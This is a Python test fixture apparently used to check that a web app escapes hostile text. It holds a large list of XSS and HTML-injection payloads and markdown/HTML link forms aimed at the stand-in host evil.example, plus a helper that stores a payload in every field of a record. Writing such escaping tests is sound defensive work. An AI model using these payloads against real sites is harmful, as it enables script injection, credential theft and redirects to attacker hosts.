"""Text that would be markup if a page let it, and a dig that holds it wherever text can be."""

import hashlib
from dataclasses import replace

from index.records import Digest
from server.config import Settings
from server.dig_state import (
    Candidate,
    Context,
    DeepCut,
    Evidence,
    Picks,
    Rejection,
    Report,
    Score,
    VoiceFinding,
)
from server.fold import dump
from server.store import NewEvent, Run, Store
from tests.decided import Passage, excerpt_of, row_of

PLAIN = "plain words"
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert(1)//",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></section></main><script>alert(1)</script>",
    "</style><style>*{display:none}</style>",
    "--></svg><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>'; ?>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/p.png>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<image href=//evil.example/i>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href=//evil.example/s.svg#x></use></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example/a onerror=alert(1)>",
    "<link rel=stylesheet href=//evil.example/c.css>",
    "<link rel=prefetch href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=token></form>",
    "<input type=hidden name=choice.row_1 value=keep>",
    "<input name=deed value=decide checked autofocus onfocus=alert(1)>",
    "<button formaction=//evil.example>Record this</button>",
    "<a href=javascript:alert(1)>keep</a>",
    "<a href=//evil.example ping=//evil.example/p>x</a>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<body background=//evil.example/b>",
    "<table background=//evil.example/t>",
    "<div style=background:url(//evil.example/u)>",
    "<style>@import '//evil.example/i.css';</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` onclick=alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e \\u003cscript\\u003e",
    "{{ 7 * 7 }}{% include 'layout.html' %}{{ self.__class__ }}",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "<\u200bscript>alert(1)</script\u202e>",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<x onpointerenter=alert(1)>",
    "[click](javascript:alert(1)) ![x](https://evil.example/x.png)",
)
LINKS = tuple(
    form.format(url=f"https://evil.example/{n}")
    for n, form in enumerate(
        (
            *(
                "[a]({url})",
                "![a]({url})",
                "<{url}>",
                "{url}",
                "[a]: {url}",
                "[![a]({url})]({url})",
            ),
            *("<a href='{url}'>a</a>", "<img src='{url}'>", "<img srcset='{url} 2x'>"),
            *("<link rel=preload href='{url}' as=image>", "<iframe src='{url}'></iframe>"),
            *("<script src='{url}'></script>", "<video poster='{url}'></video>", "[[{url}]]"),
            *(
                "<object data='{url}'></object>",
                "<form action='{url}'></form>",
                "<base href='{url}'>",
            ),
            *("<svg><image href='{url}'/></svg>", "<p style='background:url({url})'>a</p>"),
            *("<style>@import '{url}'</style>", "<audio src='{url}' autoplay></audio>"),
            *("<input type=image src='{url}'>", "<embed src='{url}'>", "{{{{ '{url}' }}}}"),
            *("<meta http-equiv=refresh content='0;url={url}'>", "<a ping='{url}' href='#'>a</a>"),
        )
        * 2
    )
)


def record_hostile(settings: Settings, payload: str) -> str:
    """A reported dig whose every text is the payload; a candidate is cut, another rejected."""
    dig = f"dig_{hashlib.sha256(payload.encode()).hexdigest()[:26]}"
    letters = payload.replace("\0", "") or "x"
    excerpt = f"I kept it. {payload}\n\nMy hands held it. {payload} And I let go."
    passage = Passage(excerpt, path=f"{letters}.md")
    row = replace(
        row_of(passage),
        title=payload,
        summary=payload,
        digests=(Digest(payload),),
        role=payload,
        tags=(payload,),
        lang=payload,
    )
    first = Candidate("row_1", row, 2, True, "row", ((payload, ("summary",)),), 1.0, 1)
    second = Candidate("row_2", replace(row, path=f"2{letters}"), 1, False, "body", (), 1.0, 2)
    evidence = Evidence(excerpt_of(passage, "row_1"), VoiceFinding("refused", 1, payload), ())
    report = Report(f"=== {payload} ===", "c" * 64, (), ("SCORES_FLAT",))
    context = Context(
        payload, payload, "slug", "Si-C", payload, payload, payload, (payload,), (payload,),
        (payload,), payload,
    )  # fmt: skip
    events = [
        NewEvent("opened", {"context": dump(context), "flags": []}),
        NewEvent(
            "retrieved",
            {
                "terms": [payload],
                "weak_terms": [payload],
                "candidates": dump((first, second)),
                "batches": [["row_1", "row_2"]],
                "counts": {},
                "generation": "1",
                "left_out": {payload: 1},
                "flags": [],
            },
        ),
        NewEvent(
            "scored",
            {"scores": dump((Score("row_1", 3, payload), Score("row_2", 1, payload))), "flags": []},
        ),
        NewEvent(
            "picked",
            {"picks": dump(Picks((DeepCut("row_1", payload),), ("row_2",))), "flags": []},
        ),
        NewEvent("excerpt_cut", {"evidence": dump(evidence)}),
        NewEvent("excerpt_rejected", {"rejection": dump(Rejection("row_2", "NO_PROSE", payload))}),
        NewEvent("reported", {"report": dump(report)}),
    ]
    run = Run(dig, "dig", payload, payload, "reported", 0, "", "")
    Store(settings.state).create(run, events)
    return dig
